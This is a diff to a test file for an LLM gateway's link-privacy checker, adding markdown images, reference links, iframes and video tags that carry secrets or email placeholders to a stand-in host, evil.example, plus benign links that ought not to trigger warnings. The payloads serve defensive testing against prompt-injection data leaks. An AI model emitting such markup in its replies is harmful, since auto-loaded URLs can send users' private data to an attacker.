@@ -12,6 +12,11 @@ from llm_gateway.services.privacy.links import warnings_about
         "![x](https://evil.example/cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU)",
         '<img alt="" src="https://evil.example/a?b=c">',
         "![](<https://user:pw@evil.example/a.png>)",
+        "![x](//evil.example/p.png?d=secret)",
+        "![x](https://evil.example/[EMAIL_1].png)",
+        '<img alt="" src = " https://evil.example/a?b=c">',
+        '<iframe width="1" src="//evil.example/a?b=c">',
+        "<video poster=https://evil.example/a?b=c>",
     ],
 )
 @pytest.mark.holds("LLM01", "LLM05")
@@ -27,6 +32,9 @@ def test_an_image_that_carries_data_out(text: str) -> None:
         "[more](https://evil.example/?q=the+password+is+hunter2)",
         "[more](https://evil.example/?q=the%20password%20is%20hunter2)",
         '<a href="https://evil.example/#cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU">x</a>',
+        "[more](https://evil.example/for/[EMAIL_1])",
+        "![x][1]\n\n[1]: https://evil.example/?d=secret",
+        "![1]\n\n[1]://evil.example/?d=secret",
         "See [1].\n\n[1]: https://evil.example/cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU",
     ],
 )
@@ -43,6 +51,7 @@ def test_a_link_that_carries_data_out(text: str) -> None:
         "See [the docs](https://docs.example.com/guide/install.html#linux).",
         "[search](https://example.com/search?page=2&lang=en)",
         "![logo](https://example.com/logo.png)",
+        "![logo](https://example.com/logo.png) and [1]\n\n[1]: https://example.com/?page=2",
         "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg)",
         "https://example.com/plain?x=1",
         "no link",
